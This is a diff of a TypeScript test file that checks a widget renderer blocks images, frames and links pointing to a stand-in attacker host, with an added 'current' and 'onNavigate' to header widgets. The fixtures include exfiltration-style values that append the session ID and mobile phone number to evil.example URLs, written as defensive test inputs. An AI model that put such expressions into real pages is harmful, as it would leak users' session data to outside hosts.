@@ -71,7 +71,7 @@ describe('pictures', () => {
       { type: 'carousel', label: 'News', slides: [{ src: 'https://evil.example/slide.png', alt: 'Slide' }], autoplay: false },
       { type: 'step-list', steps: [{ title: 'Apply', icon: 'https://evil.example/step.svg' }] },
       { type: 'image-grid', images: `=[${leak.slice(1)}, '/images/ok.png']`, alt: 'Evidence' },
-      { type: 'site-header', brand: 'Hatid', logo: leak, items: [] },
+      { type: 'site-header', brand: 'Hatid', logo: leak, items: [], current: '/', onNavigate: [] },
       { type: 'image-uploader', bind: '=state.images', onPick: [] },
     ] as WidgetNode[]);
     expect(madeImages).toHaveLength(1);
@@ -118,7 +118,7 @@ describe('frames and links', () => {
   it('a frame, a header link and a footer e-mail built from session values: the notice, no link, no line', async () => {
     const s = await show([
       { type: 'web-frame', src: "='https://evil.example/frame?sid=' + session.sessionId", title: 'Agreement' },
-      { type: 'site-header', brand: 'Hatid', brandTo: '//evil.example', items: [{ text: 'Home', to: '/' }, { text: 'Out', to: '//evil.example/x' }] },
+      { type: 'site-header', brand: 'Hatid', brandTo: '//evil.example', items: [{ text: 'Home', to: '/' }, { text: 'Out', to: '//evil.example/x' }], current: '/', onNavigate: [] },
       { type: 'site-footer', company: 'Hatid', email: "=session.mobilePhone + '@evil.example'", phone: '(02) 8812 4400' },
     ] as WidgetNode[]);
     expect(screen.getByText("This document can't be shown here.")).toBeTruthy();
